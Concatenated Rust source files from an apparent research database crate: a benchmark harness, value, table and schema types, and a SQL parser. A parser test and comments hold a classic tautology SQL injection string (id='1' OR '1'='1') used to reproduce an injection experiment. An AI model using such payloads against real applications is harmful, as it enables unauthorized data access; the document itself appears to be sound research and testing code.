        workload.test_cases.len()
    );
    println!("events per sweep: {events}, compile: {compile_micros:.0}us");
    println!("tree-walk reference : {tree_eps:>12.0} events/sec");
    println!("bytecode VM         : {vm_eps:>12.0} events/sec  ({ratio:.2}x)");
    println!(
        "vm counters: {} runs, {} instructions ({instructions_per_event:.1} per event), \
         {} events",
        snap.counter("trace.vm.runs").unwrap_or(0),
        vm_instructions,
        vm_events,
    );
    println!("traces identical to reference: {events_identical}\n");

    WorkloadResult {
        name,
        cases: workload.test_cases.len(),
        events,
        compile_micros,
        instructions_per_event,
        tree_eps,
        vm_eps,
        ratio,
        events_identical,
    }
}

fn main() {
    let mut smoke = false;
    for arg in std::env::args().skip(1) {
        match arg.as_str() {
            "--smoke" => smoke = true,
            other => {
                eprintln!("unknown argument: {other}");
                eprintln!("usage: bench_trace [--smoke]");
                std::process::exit(2);
            }
        }
    }
    let (cases, max_runs, budget_secs) = if smoke { (12, 3, 0.3) } else { (48, 12, 1.5) };

    let results = [
        bench_workload(
            "hospital",
            &hospital::workload(cases, 9),
            max_runs,
            budget_secs,
        ),
        bench_workload(
            "banking",
            &banking::workload(cases, 11),
            max_runs,
            budget_secs,
        ),
    ];

    // The VM exists to be faster than the reference; a ratio below 1.0 on
    // any workload is a regression and fails the run (and CI's bench-smoke
    // gate re-checks the recorded JSON).
    for r in &results {
        assert!(
            r.ratio >= 1.0,
            "{}: VM slower than tree-walk ({:.2}x)",
            r.name,
            r.ratio
        );
    }

    let workload_entries: Vec<String> = results
        .iter()
        .map(|r| {
            format!(
                "    {{\n      \"workload\": \"{}\",\n      \
                 \"cases\": {},\n      \
                 \"events\": {},\n      \
                 \"compile_micros\": {:.0},\n      \
                 \"instructions_per_event\": {:.1},\n      \
                 \"tree_walk_events_per_sec\": {:.0},\n      \
                 \"vm_events_per_sec\": {:.0},\n      \
                 \"vm_vs_tree_walk_ratio\": {:.2},\n      \
                 \"events_identical\": {}\n    }}",
                r.name,
                r.cases,
                r.events,
                r.compile_micros,
                r.instructions_per_event,
                r.tree_eps,
                r.vm_eps,
                r.ratio,
                r.events_identical,
            )
        })
        .collect();
    let min_ratio = results
        .iter()
        .map(|r| r.ratio)
        .fold(f64::INFINITY, f64::min);
    let all_identical = results.iter().all(|r| r.events_identical);
    let entry = format!(
        "  {{\n    \"smoke\": {smoke},\n    \
         \"min_vm_vs_tree_walk_ratio\": {min_ratio:.2},\n    \
         \"events_identical\": {all_identical},\n    \
         \"workloads\": [\n{}\n    ]\n  }}",
        workload_entries.join(",\n"),
    );
    append_history("BENCH_trace.json", &entry);
    println!("appended run to BENCH_trace.json (min ratio {min_ratio:.2})");
}
