//! Runtime values stored in tables and produced by queries.

use serde::{Deserialize, Serialize};
use std::cmp::Ordering;
use std::fmt;
use std::sync::Arc;

/// A single cell value.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum Value {
    /// 64-bit integer.
    Int(i64),
    /// 64-bit float.
    Float(f64),
    /// UTF-8 text — refcounted so that copying cells (query projection,
    /// result materialization) never copies the bytes.
    Text(Arc<str>),
    /// SQL NULL.
    Null,
}

impl Value {
    /// True if the value is NULL.
    pub fn is_null(&self) -> bool {
        matches!(self, Value::Null)
    }

    /// Renders the value the way a client library would (libpq returns
    /// strings for every field).
    pub fn render(&self) -> String {
        match self {
            Value::Int(v) => v.to_string(),
            Value::Float(v) => format!("{v}"),
            Value::Text(s) => s.to_string(),
            Value::Null => "NULL".to_string(),
        }
    }

    /// Like [`Value::render`], but shares text cells instead of copying
    /// them — the client layer materializes whole result sets through this.
    pub fn render_shared(&self) -> Arc<str> {
        match self {
            Value::Text(s) => Arc::clone(s),
            other => other.render().into(),
        }
    }

    /// Numeric view of the value, coercing text that parses as a number —
    /// mirroring MySQL's weak typing, which the tautology-injection
    /// experiments depend on.
    pub fn as_number(&self) -> Option<f64> {
        match self {
            Value::Int(v) => Some(*v as f64),
            Value::Float(v) => Some(*v),
            Value::Text(s) => s.trim().parse::<f64>().ok(),
            Value::Null => None,
        }
    }

    /// SQL comparison. NULL compares as `None` (unknown); mixed numeric
    /// types compare numerically; a number against numeric-looking text
    /// compares numerically; otherwise text compares lexicographically.
    pub fn sql_cmp(&self, other: &Value) -> Option<Ordering> {
        match (self, other) {
            (Value::Null, _) | (_, Value::Null) => None,
            (Value::Int(a), Value::Int(b)) => Some(a.cmp(b)),
            (Value::Text(a), Value::Text(b)) => Some((**a).cmp(&**b)),
            _ => {
                let a = self.as_number()?;
                let b = other.as_number()?;
                a.partial_cmp(&b)
            }
        }
    }

    /// SQL equality (`None` when either side is NULL).
    pub fn sql_eq(&self, other: &Value) -> Option<bool> {
        self.sql_cmp(other).map(|o| o == Ordering::Equal)
    }
}

impl fmt::Display for Value {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.render())
    }
}

impl From<i64> for Value {
    fn from(v: i64) -> Value {
        Value::Int(v)
    }
}

impl From<f64> for Value {
    fn from(v: f64) -> Value {
        Value::Float(v)
    }
}

impl From<&str> for Value {
    fn from(v: &str) -> Value {
        Value::Text(v.into())
    }
}

impl From<String> for Value {
    fn from(v: String) -> Value {
        Value::Text(v.into())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cross_type_numeric_comparison() {
        assert_eq!(
            Value::Int(3).sql_cmp(&Value::Float(3.0)),
            Some(Ordering::Equal)
        );
        assert_eq!(
            Value::Text("10".into()).sql_cmp(&Value::Int(9)),
            Some(Ordering::Greater)
        );
    }

    #[test]
    fn text_comparison_is_lexicographic() {
        assert_eq!(
            Value::Text("abc".into()).sql_cmp(&Value::Text("abd".into())),
            Some(Ordering::Less)
        );
    }

    #[test]
    fn tautology_comparison_holds() {
        // '1' = '1' must be true: this drives the Fig. 2 injection experiment.
        assert_eq!(
            Value::Text("1".into()).sql_eq(&Value::Text("1".into())),
            Some(true)
        );
    }

    #[test]
    fn null_comparisons_are_unknown() {
        assert_eq!(Value::Null.sql_eq(&Value::Int(1)), None);
        assert_eq!(Value::Int(1).sql_cmp(&Value::Null), None);
    }

    #[test]
    fn render_matches_client_expectations() {
        assert_eq!(Value::Int(42).render(), "42");
        assert_eq!(Value::Text("x".into()).render(), "x");
        assert_eq!(Value::Null.render(), "NULL");
    }
}
