//! Row storage.

use crate::error::DbError;
use crate::schema::Schema;
use crate::value::Value;

/// A table: a schema plus row storage.
#[derive(Debug, Clone, PartialEq)]
pub struct Table {
    schema: Schema,
    rows: Vec<Vec<Value>>,
}

impl Table {
    /// Creates an empty table.
    pub fn new(schema: Schema) -> Table {
        Table {
            schema,
            rows: Vec::new(),
        }
    }

    /// The table schema.
    pub fn schema(&self) -> &Schema {
        &self.schema
    }

    /// Number of rows.
    pub fn row_count(&self) -> usize {
        self.rows.len()
    }

    /// The stored rows.
    pub fn rows(&self) -> &[Vec<Value>] {
        &self.rows
    }

    /// Mutable access for UPDATE/DELETE execution.
    pub(crate) fn rows_mut(&mut self) -> &mut Vec<Vec<Value>> {
        &mut self.rows
    }

    /// Validates, coerces and appends a row.
    pub fn insert(&mut self, row: Vec<Value>) -> Result<(), DbError> {
        let row = self.schema.check_row(row)?;
        self.rows.push(row);
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::schema::{schema, ColumnType};

    #[test]
    fn insert_checks_schema() {
        let mut t = Table::new(schema(&[("id", ColumnType::Int), ("n", ColumnType::Text)]));
        t.insert(vec![Value::Int(1), Value::Text("a".into())])
            .unwrap();
        assert!(t.insert(vec![Value::Int(1)]).is_err());
        assert!(t
            .insert(vec![Value::Text("x".into()), Value::Text("a".into())])
            .is_err());
        assert_eq!(t.row_count(), 1);
    }
}
