//! Table schemas.

use crate::error::DbError;
use crate::value::Value;
use serde::{Deserialize, Serialize};

/// Column data types.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum ColumnType {
    /// 64-bit integer (`INT`, `INTEGER`, `BIGINT`).
    Int,
    /// 64-bit float (`FLOAT`, `REAL`, `DOUBLE`, `DECIMAL`).
    Float,
    /// Text (`TEXT`, `VARCHAR(..)`, `CHAR(..)`).
    Text,
}

impl ColumnType {
    /// True if `value` is storable in a column of this type (NULL always is;
    /// Int widens into Float).
    pub fn accepts(self, value: &Value) -> bool {
        matches!(
            (self, value),
            (_, Value::Null)
                | (ColumnType::Int, Value::Int(_))
                | (ColumnType::Float, Value::Float(_))
                | (ColumnType::Float, Value::Int(_))
                | (ColumnType::Text, Value::Text(_))
        )
    }

    /// Coerces a storable value into the column representation.
    pub fn coerce(self, value: Value) -> Value {
        match (self, value) {
            (ColumnType::Float, Value::Int(v)) => Value::Float(v as f64),
            (_, v) => v,
        }
    }
}

/// A named, typed column.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[allow(missing_docs)]
pub struct Column {
    pub name: String,
    pub ty: ColumnType,
}

/// An ordered set of columns.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Schema {
    columns: Vec<Column>,
}

impl Schema {
    /// Builds a schema; column names must be unique (case-insensitive).
    pub fn new(columns: Vec<Column>) -> Result<Schema, DbError> {
        for (i, c) in columns.iter().enumerate() {
            if columns[..i]
                .iter()
                .any(|p| p.name.eq_ignore_ascii_case(&c.name))
            {
                return Err(DbError::DuplicateColumn(c.name.clone()));
            }
        }
        Ok(Schema { columns })
    }

    /// The columns in declaration order.
    pub fn columns(&self) -> &[Column] {
        &self.columns
    }

    /// Number of columns.
    pub fn len(&self) -> usize {
        self.columns.len()
    }

    /// True if the schema has no columns.
    pub fn is_empty(&self) -> bool {
        self.columns.is_empty()
    }

    /// Index of a column by (case-insensitive) name.
    pub fn index_of(&self, name: &str) -> Result<usize, DbError> {
        self.columns
            .iter()
            .position(|c| c.name.eq_ignore_ascii_case(name))
            .ok_or_else(|| DbError::UnknownColumn(name.to_string()))
    }

    /// Validates and coerces a full row for insertion.
    pub fn check_row(&self, row: Vec<Value>) -> Result<Vec<Value>, DbError> {
        if row.len() != self.columns.len() {
            return Err(DbError::ArityMismatch {
                expected: self.columns.len(),
                found: row.len(),
            });
        }
        row.into_iter()
            .zip(&self.columns)
            .map(|(v, c)| {
                if c.ty.accepts(&v) {
                    Ok(c.ty.coerce(v))
                } else {
                    Err(DbError::TypeMismatch {
                        column: c.name.clone(),
                        value: v.render(),
                    })
                }
            })
            .collect()
    }
}

/// Convenience macro-free schema construction helper.
pub fn schema(cols: &[(&str, ColumnType)]) -> Schema {
    Schema::new(
        cols.iter()
            .map(|(n, t)| Column {
                name: (*n).to_string(),
                ty: *t,
            })
            .collect(),
    )
    .expect("static schema must be valid")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn duplicate_columns_rejected() {
        let err = Schema::new(vec![
            Column {
                name: "id".into(),
                ty: ColumnType::Int,
            },
            Column {
                name: "ID".into(),
                ty: ColumnType::Text,
            },
        ])
        .unwrap_err();
        assert!(matches!(err, DbError::DuplicateColumn(_)));
    }

    #[test]
    fn check_row_coerces_int_to_float() {
        let s = schema(&[("x", ColumnType::Float)]);
        let row = s.check_row(vec![Value::Int(2)]).unwrap();
        assert_eq!(row, vec![Value::Float(2.0)]);
    }

    #[test]
    fn check_row_rejects_wrong_type() {
        let s = schema(&[("x", ColumnType::Int)]);
        assert!(s.check_row(vec![Value::Text("no".into())]).is_err());
    }

    #[test]
    fn index_of_is_case_insensitive() {
        let s = schema(&[("Name", ColumnType::Text)]);
        assert_eq!(s.index_of("name").unwrap(), 0);
        assert!(s.index_of("missing").is_err());
    }
}
