//! SQL front-end: tokenizer, AST and parser for the supported subset.
//!
//! Supported statements: `CREATE TABLE`, `DROP TABLE`, `INSERT`, `SELECT`
//! (projections, aggregates, `WHERE`, `ORDER BY`, `LIMIT`), `UPDATE`,
//! `DELETE`. WHERE expressions support comparisons, `AND`/`OR`/`NOT`,
//! `LIKE`, `IS [NOT] NULL`, arithmetic, and `$n`/`?` placeholders for
//! prepared statements.

pub mod ast;
pub mod lexer;
pub mod parser;

pub use ast::{Aggregate, ArithOp, CmpOp, Order, Projection, SqlExpr, SqlScalar, SqlStmt};
pub use lexer::{lex_sql, SqlTok};
pub use parser::parse_sql;
