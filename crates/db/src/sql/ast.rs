//! SQL abstract syntax.

use crate::schema::ColumnType;
use crate::value::Value;

/// A literal or prepared-statement parameter in SQL text.
#[derive(Debug, Clone, PartialEq)]
pub enum SqlScalar {
    /// A constant value.
    Literal(Value),
    /// `$n` (1-based) or `?` (positional) placeholder.
    Param(usize),
}

/// Scalar SQL expressions (WHERE clauses, SET values).
#[derive(Debug, Clone, PartialEq)]
pub enum SqlExpr {
    /// Constant or placeholder.
    Scalar(SqlScalar),
    /// Column reference.
    Column(String),
    /// Comparison.
    Cmp(CmpOp, Box<SqlExpr>, Box<SqlExpr>),
    /// Logical AND.
    And(Box<SqlExpr>, Box<SqlExpr>),
    /// Logical OR.
    Or(Box<SqlExpr>, Box<SqlExpr>),
    /// Logical NOT.
    Not(Box<SqlExpr>),
    /// `expr LIKE 'pattern'` (`%`/`_` wildcards).
    Like(Box<SqlExpr>, Box<SqlExpr>),
    /// `expr IS NULL` / `expr IS NOT NULL`.
    IsNull(Box<SqlExpr>, bool),
    /// Arithmetic.
    Arith(ArithOp, Box<SqlExpr>, Box<SqlExpr>),
}

/// Comparison operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum CmpOp {
    Eq,
    Ne,
    Lt,
    Le,
    Gt,
    Ge,
}

/// Arithmetic operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum ArithOp {
    Add,
    Sub,
    Mul,
    Div,
}

/// Aggregate functions in a projection.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Aggregate {
    /// `COUNT(*)`.
    CountStar,
    /// `COUNT(col)` — non-NULL count.
    Count(String),
    /// `SUM(col)`.
    Sum(String),
    /// `AVG(col)`.
    Avg(String),
    /// `MIN(col)`.
    Min(String),
    /// `MAX(col)`.
    Max(String),
}

/// The SELECT projection.
#[derive(Debug, Clone, PartialEq)]
pub enum Projection {
    /// `SELECT *`.
    Star,
    /// `SELECT c1, c2, ...`.
    Columns(Vec<String>),
    /// `SELECT agg1, agg2, ...`.
    Aggregates(Vec<Aggregate>),
}

/// ORDER BY direction.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum Order {
    Asc,
    Desc,
}

/// A parsed SQL statement.
#[derive(Debug, Clone, PartialEq)]
#[allow(missing_docs)]
pub enum SqlStmt {
    /// `CREATE TABLE name (col type, ...)`.
    CreateTable {
        name: String,
        columns: Vec<(String, ColumnType)>,
    },
    /// `DROP TABLE name`.
    DropTable { name: String },
    /// `INSERT INTO t [(cols)] VALUES (...), (...)`.
    Insert {
        table: String,
        columns: Option<Vec<String>>,
        rows: Vec<Vec<SqlScalar>>,
    },
    /// `SELECT ... FROM t [WHERE ...] [ORDER BY col [ASC|DESC]] [LIMIT n]`.
    Select {
        projection: Projection,
        table: String,
        where_clause: Option<SqlExpr>,
        order_by: Option<(String, Order)>,
        limit: Option<usize>,
    },
    /// `UPDATE t SET c = v, ... [WHERE ...]`.
    Update {
        table: String,
        sets: Vec<(String, SqlExpr)>,
        where_clause: Option<SqlExpr>,
    },
    /// `DELETE FROM t [WHERE ...]`.
    Delete {
        table: String,
        where_clause: Option<SqlExpr>,
    },
}

impl SqlStmt {
    /// True for statements that return row sets.
    pub fn returns_rows(&self) -> bool {
        matches!(self, SqlStmt::Select { .. })
    }

    /// Number of distinct parameters (`$n` / `?`) the statement uses.
    pub fn param_count(&self) -> usize {
        let mut max = 0usize;
        let mut on_scalar = |s: &SqlScalar| {
            if let SqlScalar::Param(i) = s {
                max = max.max(*i);
            }
        };
        fn walk(e: &SqlExpr, f: &mut impl FnMut(&SqlScalar)) {
            match e {
                SqlExpr::Scalar(s) => f(s),
                SqlExpr::Column(_) => {}
                SqlExpr::Cmp(_, a, b)
                | SqlExpr::And(a, b)
                | SqlExpr::Or(a, b)
                | SqlExpr::Like(a, b)
                | SqlExpr::Arith(_, a, b) => {
                    walk(a, f);
                    walk(b, f);
                }
                SqlExpr::Not(a) | SqlExpr::IsNull(a, _) => walk(a, f),
            }
        }
        match self {
            SqlStmt::Insert { rows, .. } => {
                for row in rows {
                    for s in row {
                        on_scalar(s);
                    }
                }
            }
            SqlStmt::Select { where_clause, .. } | SqlStmt::Delete { where_clause, .. } => {
                if let Some(w) = where_clause {
                    walk(w, &mut on_scalar);
                }
            }
            SqlStmt::Update {
                sets, where_clause, ..
            } => {
                for (_, e) in sets {
                    walk(e, &mut on_scalar);
                }
                if let Some(w) = where_clause {
                    walk(w, &mut on_scalar);
                }
            }
            SqlStmt::CreateTable { .. } | SqlStmt::DropTable { .. } => {}
        }
        max
    }
}
