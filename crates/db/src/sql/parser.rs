//! Recursive-descent SQL parser over [`SqlTok`] streams.

use super::ast::{Aggregate, ArithOp, CmpOp, Order, Projection, SqlExpr, SqlScalar, SqlStmt};
use super::lexer::{lex_sql, SqlTok};
use crate::error::DbError;
use crate::schema::ColumnType;
use crate::value::Value;

/// Parses one SQL statement (a trailing `;` is tolerated).
pub fn parse_sql(src: &str) -> Result<SqlStmt, DbError> {
    let toks = lex_sql(src)?;
    let mut p = SqlParser { toks, pos: 0 };
    let stmt = p.statement()?;
    p.eat_punct(";");
    if !p.at_end() {
        return Err(DbError::Syntax(format!(
            "trailing input after statement: {:?}",
            p.peek()
        )));
    }
    Ok(stmt)
}

struct SqlParser {
    toks: Vec<SqlTok>,
    pos: usize,
}

impl SqlParser {
    fn at_end(&self) -> bool {
        self.pos >= self.toks.len()
    }

    fn peek(&self) -> Option<&SqlTok> {
        self.toks.get(self.pos)
    }

    fn bump(&mut self) -> Option<SqlTok> {
        let t = self.toks.get(self.pos).cloned();
        self.pos += 1;
        t
    }

    fn eat_kw(&mut self, kw: &str) -> bool {
        if let Some(SqlTok::Word(w)) = self.peek() {
            if w.eq_ignore_ascii_case(kw) {
                self.pos += 1;
                return true;
            }
        }
        false
    }

    fn expect_kw(&mut self, kw: &str) -> Result<(), DbError> {
        if self.eat_kw(kw) {
            Ok(())
        } else {
            Err(DbError::Syntax(format!(
                "expected `{kw}`, found {:?}",
                self.peek()
            )))
        }
    }

    fn eat_punct(&mut self, p: &str) -> bool {
        if let Some(SqlTok::Punct(q)) = self.peek() {
            if *q == p {
                self.pos += 1;
                return true;
            }
        }
        false
    }

    fn expect_punct(&mut self, p: &str) -> Result<(), DbError> {
        if self.eat_punct(p) {
            Ok(())
        } else {
            Err(DbError::Syntax(format!(
                "expected `{p}`, found {:?}",
                self.peek()
            )))
        }
    }

    fn expect_word(&mut self) -> Result<String, DbError> {
        match self.bump() {
            Some(SqlTok::Word(w)) => Ok(w),
            other => Err(DbError::Syntax(format!(
                "expected identifier, found {other:?}"
            ))),
        }
    }

    fn statement(&mut self) -> Result<SqlStmt, DbError> {
        if self.eat_kw("CREATE") {
            return self.create_table();
        }
        if self.eat_kw("DROP") {
            self.expect_kw("TABLE")?;
            let name = self.expect_word()?;
            return Ok(SqlStmt::DropTable { name });
        }
        if self.eat_kw("INSERT") {
            return self.insert();
        }
        if self.eat_kw("SELECT") {
            return self.select();
        }
        if self.eat_kw("UPDATE") {
            return self.update();
        }
        if self.eat_kw("DELETE") {
            return self.delete();
        }
        Err(DbError::Syntax(format!(
            "expected statement, found {:?}",
            self.peek()
        )))
    }

    fn column_type(&mut self) -> Result<ColumnType, DbError> {
        let name = self.expect_word()?.to_ascii_uppercase();
        let ty = match name.as_str() {
            "INT" | "INTEGER" | "BIGINT" | "SMALLINT" | "SERIAL" => ColumnType::Int,
            "FLOAT" | "REAL" | "DOUBLE" | "DECIMAL" | "NUMERIC" => ColumnType::Float,
            "TEXT" | "VARCHAR" | "CHAR" | "STRING" => ColumnType::Text,
            other => return Err(DbError::Syntax(format!("unknown type `{other}`"))),
        };
        // Optional length/precision suffix: VARCHAR(40), DECIMAL(8,2).
        if self.eat_punct("(") {
            loop {
                match self.bump() {
                    Some(SqlTok::Int(_)) => {}
                    other => {
                        return Err(DbError::Syntax(format!(
                            "expected length in type suffix, found {other:?}"
                        )))
                    }
                }
                if self.eat_punct(")") {
                    break;
                }
                self.expect_punct(",")?;
            }
        }
        Ok(ty)
    }

    fn create_table(&mut self) -> Result<SqlStmt, DbError> {
        self.expect_kw("TABLE")?;
        let name = self.expect_word()?;
        self.expect_punct("(")?;
        let mut columns = Vec::new();
        loop {
            let col = self.expect_word()?;
            let ty = self.column_type()?;
            // Ignore common column constraints.
            while self.eat_kw("PRIMARY")
                || self.eat_kw("KEY")
                || self.eat_kw("NOT")
                || self.eat_kw("NULL")
                || self.eat_kw("UNIQUE")
            {}
            columns.push((col, ty));
            if self.eat_punct(")") {
                break;
            }
            self.expect_punct(",")?;
        }
        Ok(SqlStmt::CreateTable { name, columns })
    }

    fn insert(&mut self) -> Result<SqlStmt, DbError> {
        self.expect_kw("INTO")?;
        let table = self.expect_word()?;
        let columns = if self.eat_punct("(") {
            let mut cols = Vec::new();
            loop {
                cols.push(self.expect_word()?);
                if self.eat_punct(")") {
                    break;
                }
                self.expect_punct(",")?;
            }
            Some(cols)
        } else {
            None
        };
        self.expect_kw("VALUES")?;
        let mut rows = Vec::new();
        loop {
            self.expect_punct("(")?;
            let mut row = Vec::new();
            loop {
                row.push(self.scalar()?);
                if self.eat_punct(")") {
                    break;
                }
                self.expect_punct(",")?;
            }
            rows.push(row);
            if !self.eat_punct(",") {
                break;
            }
        }
        Ok(SqlStmt::Insert {
            table,
            columns,
            rows,
        })
    }

    fn scalar(&mut self) -> Result<SqlScalar, DbError> {
        let negative = self.eat_punct("-");
        match self.bump() {
            Some(SqlTok::Int(v)) => Ok(SqlScalar::Literal(Value::Int(if negative {
                -v
            } else {
                v
            }))),
            Some(SqlTok::Float(v)) => Ok(SqlScalar::Literal(Value::Float(if negative {
                -v
            } else {
                v
            }))),
            Some(SqlTok::Str(s)) if !negative => Ok(SqlScalar::Literal(Value::Text(s.into()))),
            Some(SqlTok::Param(i)) if !negative => Ok(SqlScalar::Param(i)),
            Some(SqlTok::Word(w)) if w.eq_ignore_ascii_case("NULL") && !negative => {
                Ok(SqlScalar::Literal(Value::Null))
            }
            other => Err(DbError::Syntax(format!("expected value, found {other:?}"))),
        }
    }

    fn select(&mut self) -> Result<SqlStmt, DbError> {
        let projection = self.projection()?;
        self.expect_kw("FROM")?;
        let table = self.expect_word()?;
        let where_clause = if self.eat_kw("WHERE") {
            Some(self.expr()?)
        } else {
            None
        };
        let order_by = if self.eat_kw("ORDER") {
            self.expect_kw("BY")?;
            let col = self.expect_word()?;
            let dir = if self.eat_kw("DESC") {
                Order::Desc
            } else {
                self.eat_kw("ASC");
                Order::Asc
            };
            Some((col, dir))
        } else {
            None
        };
        let limit = if self.eat_kw("LIMIT") {
            match self.bump() {
                Some(SqlTok::Int(v)) if v >= 0 => Some(v as usize),
                other => {
                    return Err(DbError::Syntax(format!(
                        "expected LIMIT count, found {other:?}"
                    )))
                }
            }
        } else {
            None
        };
        Ok(SqlStmt::Select {
            projection,
            table,
            where_clause,
            order_by,
            limit,
        })
    }

    fn projection(&mut self) -> Result<Projection, DbError> {
        if self.eat_punct("*") {
            return Ok(Projection::Star);
        }
        // Try aggregates first: WORD '(' ...
        if let Some(SqlTok::Word(w)) = self.peek() {
            let upper = w.to_ascii_uppercase();
            let is_agg = matches!(upper.as_str(), "COUNT" | "SUM" | "AVG" | "MIN" | "MAX")
                && self.toks.get(self.pos + 1) == Some(&SqlTok::Punct("("));
            if is_agg {
                let mut aggs = Vec::new();
                loop {
                    let name = self.expect_word()?.to_ascii_uppercase();
                    self.expect_punct("(")?;
                    let agg = if self.eat_punct("*") {
                        if name != "COUNT" {
                            return Err(DbError::Syntax(format!("{name}(*) is not valid")));
                        }
                        Aggregate::CountStar
                    } else {
                        let col = self.expect_word()?;
                        match name.as_str() {
                            "COUNT" => Aggregate::Count(col),
                            "SUM" => Aggregate::Sum(col),
                            "AVG" => Aggregate::Avg(col),
                            "MIN" => Aggregate::Min(col),
                            "MAX" => Aggregate::Max(col),
                            _ => unreachable!("gated above"),
                        }
                    };
                    self.expect_punct(")")?;
                    aggs.push(agg);
                    if !self.eat_punct(",") {
                        break;
                    }
                }
                return Ok(Projection::Aggregates(aggs));
            }
        }
        let mut cols = Vec::new();
        loop {
            cols.push(self.expect_word()?);
            if !self.eat_punct(",") {
                break;
            }
        }
        Ok(Projection::Columns(cols))
    }

    fn update(&mut self) -> Result<SqlStmt, DbError> {
        let table = self.expect_word()?;
        self.expect_kw("SET")?;
        let mut sets = Vec::new();
        loop {
            let col = self.expect_word()?;
            self.expect_punct("=")?;
            sets.push((col, self.expr()?));
            if !self.eat_punct(",") {
                break;
            }
        }
        let where_clause = if self.eat_kw("WHERE") {
            Some(self.expr()?)
        } else {
            None
        };
        Ok(SqlStmt::Update {
            table,
            sets,
            where_clause,
        })
    }

    fn delete(&mut self) -> Result<SqlStmt, DbError> {
        self.expect_kw("FROM")?;
        let table = self.expect_word()?;
        let where_clause = if self.eat_kw("WHERE") {
            Some(self.expr()?)
        } else {
            None
        };
        Ok(SqlStmt::Delete {
            table,
            where_clause,
        })
    }

    // Expression grammar: or_expr > and_expr > not_expr > cmp > arith > atom.
    fn expr(&mut self) -> Result<SqlExpr, DbError> {
        let mut lhs = self.and_expr()?;
        while self.eat_kw("OR") {
            let rhs = self.and_expr()?;
            lhs = SqlExpr::Or(Box::new(lhs), Box::new(rhs));
        }
        Ok(lhs)
    }

    fn and_expr(&mut self) -> Result<SqlExpr, DbError> {
        let mut lhs = self.not_expr()?;
        while self.eat_kw("AND") {
            let rhs = self.not_expr()?;
            lhs = SqlExpr::And(Box::new(lhs), Box::new(rhs));
        }
        Ok(lhs)
    }

    fn not_expr(&mut self) -> Result<SqlExpr, DbError> {
        if self.eat_kw("NOT") {
            let inner = self.not_expr()?;
            return Ok(SqlExpr::Not(Box::new(inner)));
        }
        self.cmp_expr()
    }

    fn cmp_expr(&mut self) -> Result<SqlExpr, DbError> {
        let lhs = self.arith_expr()?;
        if self.eat_kw("IS") {
            let negated = self.eat_kw("NOT");
            self.expect_kw("NULL")?;
            return Ok(SqlExpr::IsNull(Box::new(lhs), negated));
        }
        if self.eat_kw("LIKE") {
            let pattern = self.arith_expr()?;
            return Ok(SqlExpr::Like(Box::new(lhs), Box::new(pattern)));
        }
        let op = if self.eat_punct("=") {
            CmpOp::Eq
        } else if self.eat_punct("!=") {
            CmpOp::Ne
        } else if self.eat_punct("<=") {
            CmpOp::Le
        } else if self.eat_punct(">=") {
            CmpOp::Ge
        } else if self.eat_punct("<") {
            CmpOp::Lt
        } else if self.eat_punct(">") {
            CmpOp::Gt
        } else {
            return Ok(lhs);
        };
        let rhs = self.arith_expr()?;
        Ok(SqlExpr::Cmp(op, Box::new(lhs), Box::new(rhs)))
    }

    fn arith_expr(&mut self) -> Result<SqlExpr, DbError> {
        let mut lhs = self.term_expr()?;
        loop {
            let op = if self.eat_punct("+") {
                ArithOp::Add
            } else if self.eat_punct("-") {
                ArithOp::Sub
            } else {
                return Ok(lhs);
            };
            let rhs = self.term_expr()?;
            lhs = SqlExpr::Arith(op, Box::new(lhs), Box::new(rhs));
        }
    }

    fn term_expr(&mut self) -> Result<SqlExpr, DbError> {
        let mut lhs = self.atom()?;
        loop {
            let op = if self.eat_punct("*") {
                ArithOp::Mul
            } else if self.eat_punct("/") {
                ArithOp::Div
            } else {
                return Ok(lhs);
            };
            let rhs = self.atom()?;
            lhs = SqlExpr::Arith(op, Box::new(lhs), Box::new(rhs));
        }
    }

    fn atom(&mut self) -> Result<SqlExpr, DbError> {
        if self.eat_punct("(") {
            let e = self.expr()?;
            self.expect_punct(")")?;
            return Ok(e);
        }
        match self.peek() {
            Some(SqlTok::Int(_))
            | Some(SqlTok::Float(_))
            | Some(SqlTok::Str(_))
            | Some(SqlTok::Param(_))
            | Some(SqlTok::Punct("-")) => Ok(SqlExpr::Scalar(self.scalar()?)),
            Some(SqlTok::Word(w)) if w.eq_ignore_ascii_case("NULL") => {
                self.pos += 1;
                Ok(SqlExpr::Scalar(SqlScalar::Literal(Value::Null)))
            }
            Some(SqlTok::Word(_)) => Ok(SqlExpr::Column(self.expect_word()?)),
            other => Err(DbError::Syntax(format!(
                "expected expression, found {other:?}"
            ))),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_select_star_where() {
        let stmt = parse_sql("SELECT * FROM items WHERE ID = 10").unwrap();
        match stmt {
            SqlStmt::Select {
                projection,
                table,
                where_clause,
                ..
            } => {
                assert_eq!(projection, Projection::Star);
                assert_eq!(table, "items");
                assert!(where_clause.is_some());
            }
            other => panic!("wrong statement {other:?}"),
        }
    }

    #[test]
    fn parses_tautology_injection() {
        // Exactly the query produced by the Fig. 2 attack.
        let stmt = parse_sql("SELECT * FROM clients where id='1' OR '1'='1';").unwrap();
        match stmt {
            SqlStmt::Select { where_clause, .. } => {
                let w = where_clause.unwrap();
                assert!(matches!(w, SqlExpr::Or(_, _)));
            }
            other => panic!("wrong statement {other:?}"),
        }
    }

    #[test]
    fn parses_count_star() {
        let stmt = parse_sql("SELECT COUNT(*) FROM employees WHERE yearlyIncome < 30000").unwrap();
        match stmt {
            SqlStmt::Select { projection, .. } => {
                assert_eq!(
                    projection,
                    Projection::Aggregates(vec![Aggregate::CountStar])
                );
            }
            other => panic!("wrong statement {other:?}"),
        }
    }

    #[test]
    fn parses_create_insert_update_delete() {
